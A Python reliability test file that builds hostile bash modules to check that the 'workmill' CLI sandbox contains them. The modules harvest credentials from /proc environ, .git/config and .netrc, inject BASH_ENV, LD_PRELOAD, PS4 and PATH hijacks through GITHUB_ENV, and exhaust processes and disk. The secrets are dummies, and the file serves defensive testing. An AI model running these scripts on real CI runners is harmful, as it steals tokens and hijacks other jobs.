"""Hostile modules and the repo they attack (tests/reliability/test_hostile_modules.py).

Each hostile module is a real bash module in a real repo, run by the `workmill`
CLI in a subprocess, with credentials in workmill's environment and secrets
planted where a module must not reach (docs/architecture.md "Threat model").
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import time
from collections.abc import Callable
from pathlib import Path

from reliability_support import cli_run

from platform_factory import T1, T3, build_repo, prepare, work_order

TOKENS = {
    "GH_TOKEN": "ghp_HOSTILEgh000000000000000000000001",
    "GITHUB_TOKEN": "ghs_HOSTILEgithub0000000000000000002",
    "ACTIONS_RUNTIME_TOKEN": "HOSTILEactionsruntime0000000000003",
    "WORKMILL_LICENCE_KEY": "HOSTILElicence00000000000000000004",
}


def tokens(tag: str) -> dict[str, str]:
    """The credentials of one test repo (distinct per repo: tests run side by side and a
    `sandbox: none` snoop sees every process of the machine)."""
    return {k: f"{v}{tag}" for k, v in TOKENS.items()}


GIT_SECRET = "HOSTILEgitconfig000000000000000005"
STORE_SECRET = "HOSTILEstore0000000000000000000006"
OTHER_SECRET = "HOSTILEothertenant0000000000000007"
HOME_SECRET = "HOSTILEoperatorhome000000000000008"
CAP = 8 * 1024 * 1024

SNOOP = r"""
o="$WM_OUTPUTS_DIR/loot.txt"
{
  env
  for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done
  tr '\0' '\n' < "/proc/$PPID/environ"
  cat "$WM_PARAM_REPO/.git/config"
  find "$WM_PARAM_REPO/.workmill" -name canary.txt -exec cat {} +
  cat "$WM_PARAM_REPO/.workmill/releases/canary.txt"
  cat "$WM_PARAM_OTHER"
  cat "$WM_PARAM_HOMEDIR/.netrc"
  cat "/proc/1/root$WM_PARAM_REPO/.git/config"
} 2>/dev/null | grep -a HOSTILE > "$o" || true
ls -a "$WM_PARAM_REPO" > "$WM_OUTPUTS_DIR/ls-repo.txt" 2>&1 || true
echo done > "$WM_OUTPUTS_DIR/ok.txt"
"""

ENV_TRICKS_1 = r"""
printf 'echo pwned >> "$WM_OUTPUTS_DIR/pwned.txt"\n' > "$RUNNER_TEMP/evil.sh"
printf '#!/bin/sh\necho pwned >> "$WM_OUTPUTS_DIR/pwned.txt"\n' > ./ls
chmod +x ./ls "$RUNNER_TEMP/evil.sh"
{
  echo "BASH_ENV=$RUNNER_TEMP/evil.sh"
  echo "ENV=$RUNNER_TEMP/evil.sh"
  echo "LD_PRELOAD=$RUNNER_TEMP/evil.so"
  echo "PYTHONSTARTUP=$RUNNER_TEMP/evil.py"
  echo "PYTHONPATH=$RUNNER_TEMP"
  echo "PERL5OPT=-Mevil"
  echo "RUBYOPT=-revil"
  echo "SHELLOPTS=xtrace"
  echo "PS4=\$(echo pwned >> \$WM_OUTPUTS_DIR/pwned.txt)"
  echo "IFS=/"
  echo "WM_OUTPUTS_DIR=/tmp"
  echo "GITHUB_WORKSPACE=/"
  printf 'NODE_OPTIONS<<XX\n--require=%s/evil.js\nXX\n' "$RUNNER_TEMP"
  echo "BASH_FUNC_cat%%=() { echo pwned >> \"\$WM_OUTPUTS_DIR/pwned.txt\"; }"
  echo "GREETING=$WM_PARAM_GREETING"
} >> "$GITHUB_ENV"
echo "." >> "$GITHUB_PATH"
echo "bin:/usr/bin" >> "$GITHUB_PATH"
"""
ENV_TRICKS_2 = r"""
ls > /dev/null
cat /dev/null
{
  for v in BASH_ENV ENV LD_PRELOAD PYTHONSTARTUP PYTHONPATH NODE_OPTIONS PERL5OPT RUBYOPT; do
    if [ -n "${!v+set}" ]; then echo "$v"; fi
  done
  if [ "$IFS" != $' \t\n' ]; then echo IFS; fi
  if [ "$PS4" != "+ " ]; then echo PS4; fi
  case ":$SHELLOPTS:" in *:xtrace:*) echo SHELLOPTS;; esac
  if [ "$WM_OUTPUTS_DIR" = /tmp ]; then echo WM_OUTPUTS_DIR; fi
} > "$WM_OUTPUTS_DIR/leaked-env.txt"
echo "$GREETING" > "$WM_OUTPUTS_DIR/greeting.txt"
echo done > "$WM_OUTPUTS_DIR/ok.txt"
"""

PROCS = r"""
for i in $(seq 200); do sleep "$WM_PARAM_SECS" & done
( setsid sh -c 'while :; do echo beat >> "$WM_CACHE_DIR/heartbeat"; sleep 0.05; done' "hb-$WM_PARAM_SECS" > /dev/null 2>&1 & )
( nohup sh -c "sleep $WM_PARAM_SECS" > /dev/null 2>&1 & ) &
sleep 0.3
echo done > "$WM_OUTPUTS_DIR/ok.txt"
"""

BIG = r"""
truncate -s 3G "$WM_OUTPUTS_DIR/sparse.bin" 2>/dev/null || true
head -c 3000000000 /dev/zero > "$WM_OUTPUTS_DIR/big.bin"
"""

NAMES = r"""
echo x > "$WM_OUTPUTS_DIR/ok.txt"
echo x > "$WM_OUTPUTS_DIR/$(printf 'two\nlines.txt')"
echo x > "$WM_OUTPUTS_DIR/-rf"
"""

LINGER = r"""
if [ -e "$WM_CACHE_DIR/ran-once" ]; then echo done > "$WM_OUTPUTS_DIR/ok.txt"; exit 0; fi
touch "$WM_CACHE_DIR/ran-once" "$WM_OUTPUTS_DIR/stale.txt"
( setsid sh -c 'while :; do echo beat >> "$WM_CACHE_DIR/heartbeat"; sleep 0.05; done' "hb-$WM_PARAM_SECS" > /dev/null 2>&1 & )
for i in $(seq 20); do sleep "$WM_PARAM_SECS" & done
sleep 60
echo done > "$WM_OUTPUTS_DIR/ok.txt"
"""

# module id -> (name, inputs, steps, declared outputs)
HOSTILE = {
    "101": ("Snoop", {"repo": {}, "other": {}, "homedir": {}}, [SNOOP], ["ok.txt"]),
    "102": ("EnvTricks", {"greeting": {"default": "hi"}}, [ENV_TRICKS_1, ENV_TRICKS_2], ["ok.txt"]),
    "103": ("Procs", {"secs": {"default": 31337}}, [PROCS], ["ok.txt"]),
    "104": ("Big", {}, [BIG], []),
    "105": ("Names", {}, [NAMES], ["ok.txt"]),
    "106": ("Linger", {"secs": {"default": 31339}}, [LINGER], ["ok.txt"]),
}


def add_module(root: Path, mid: str) -> None:
    name, inputs, steps, outputs = HOSTILE[mid]
    d = root / "modules" / mid
    d.mkdir(parents=True)
    spec = {
        "module_id": mid,
        "name": name,
        "version": "1.0.0",
        "capabilities": {"supports_downloadable_artifacts": True},
        "outputs": [{"name": n, "format": "text"} for n in outputs],
        "timeout_minutes": 2,
    }
    (d / "module.yml").write_text(json.dumps(spec))
    (d / "validation.yml").write_text('{"reasons": []}')
    action = {
        "name": name,
        "inputs": inputs,
        "runs": {"using": "composite", "steps": [{"shell": "bash", "run": s} for s in steps]},
    }
    (d / "action.yml").write_text(json.dumps(action))
    with (root / "maintenance-state" / "ids" / "module_registry.csv").open("a") as fh:
        fh.write(f"{mid},02,{name},active,\n")
    with (root / "releases" / "billing-state-v1" / "pricing.csv").open("a") as fh:
        fh.write(f"{mid},H{mid[1:]},3,1,true\n")


def hostile_repo(
    root: Path, sandbox: str, mids: list[str], extra: Callable[[Path], None] | None = None
) -> Path:
    """A repo with the hostile modules (and what ``extra`` adds), planted secrets, T3
    topped up; nothing run yet."""
    build_repo(root)
    (root / "workmill.yml").write_text(
        f"max_parallel: 2\nsandbox: {sandbox}\nmax_output_bytes: {CAP}\n"
    )
    for mid in mids:
        add_module(root, mid)
    if extra is not None:
        extra(root)
    git = root / ".git"
    git.mkdir()
    (git / "config").write_text(
        f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {GIT_SECRET}\n'
    )
    other = root / "runtime" / T1 / "Zz000001" / "001" / "outputs"
    other.mkdir(parents=True)
    (other / "canary.txt").write_text(OTHER_SECRET + "\n")
    home = root.parent / "operator-home"
    home.mkdir(exist_ok=True)
    (home / ".netrc").write_text(f"machine github.com password {HOME_SECRET}\n")
    prepare(cli_run, root, {T3: 1000})
    (root / ".workmill" / "releases" / "canary.txt").write_text(STORE_SECRET + "\n")
    return root


def snoop_params(root: Path) -> dict[str, str]:
    return {
        "repo": str(root),
        "other": str(root / "runtime" / T1 / "Zz000001" / "001" / "outputs" / "canary.txt"),
        "homedir": str(root.parent / "operator-home"),
    }


def add_work_order(root: Path, wo: str, mid: str, params: dict | None = None) -> None:
    work_order(
        root,
        T3,
        wo,
        [{"module_id": mid, "params": params or {}, "purchase_release_artifacts": True}],
        mode="PARTIAL_ALLOWED",
    )


def tag_of(root: Path) -> str:
    return hashlib.sha256(str(root).encode()).hexdigest()[:12]


def marker_secs(root: Path) -> int:
    """A sleep length no other test uses at the same time (xdist runs repos side by side),
    so its processes can be found by command line."""
    return 40000 + int(tag_of(root), 16) % 50000


def workmill_env(root: Path) -> dict[str, str]:
    return {**tokens(tag_of(root)), "HOME": str(root.parent / "operator-home")}


def run_json(root: Path) -> dict[str, dict]:
    r = cli_run("run", "--json", cwd=root, env=workmill_env(root), timeout=300)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    return {w["work_order_id"]: w for w in json.loads(r.stdout)["work_orders"]}


def processes_with(marker: str) -> list[int]:
    """Host pids whose command line contains ``marker``."""
    out = []
    for p in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker.encode() in p.read_bytes():
                out.append(int(p.parent.name))
        except OSError:
            continue
    return out


def kill_leftovers(marker: str) -> None:
    """Test hygiene: what a failed assertion left running (named by ``marker``, and
    started for one of these hostile modules: nothing else on the machine is touched)."""
    for pid in processes_with(marker):
        with contextlib.suppress(OSError):
            if b"WM_MODULE_ID=10" in Path(f"/proc/{pid}/environ").read_bytes():
                os.kill(pid, 9)


def still_growing(path: Path, wait: float = 0.6) -> bool:
    """True when ``path`` grows over ``wait`` seconds (someone still writes to it)."""
    before = path.stat().st_size if path.exists() else 0
    time.sleep(wait)
    after = path.stat().st_size if path.exists() else 0
    return after != before


def every_file_bytes(root: Path) -> bytes:
    """Everything under ``root`` (outputs, logs, manifests), concatenated."""
    out = []
    for dirpath, _dirs, files in os.walk(root):
        for f in files:
            p = Path(dirpath) / f
            if p.is_file() and not p.is_symlink() and p.stat().st_size < 64 * 1024 * 1024:
                out.append(p.read_bytes())
    return b"\n".join(out)
